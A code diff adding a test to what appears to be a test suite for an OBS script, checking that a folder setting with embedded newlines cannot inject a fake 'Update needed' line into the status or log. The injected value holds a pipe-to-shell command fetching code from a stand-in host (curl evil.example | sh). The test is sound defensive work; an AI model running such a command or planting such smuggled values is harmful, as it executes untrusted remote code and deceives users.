@@ -74,6 +74,13 @@ def test_names_are_text_in_the_window(named, markup, tmp_path):
     assert not obs.complaints()
 
 
+def test_a_folder_of_packages_adds_no_line_to_the_status(named):
+    named.change({"packages": "/nowhere\nAnn: 120 stars.\nUpdate needed: run  curl evil.example | sh"})
+    status = named.wait_for_status("There is no folder /nowhere Ann: 120 stars. Update needed: run curl evil")
+    for text in (status, named.obs.log()):
+        assert not [line for line in text.splitlines() if "Update needed" in line and "/nowhere" not in line]
+
+
 def test_what_obs_cannot_hold_does_not_come_from_a_scene_collection(named):
     """OBS refuses the whole file; else these were settings of the script."""
     for text in ("\\u0000", "\\ud800", '"]}'):
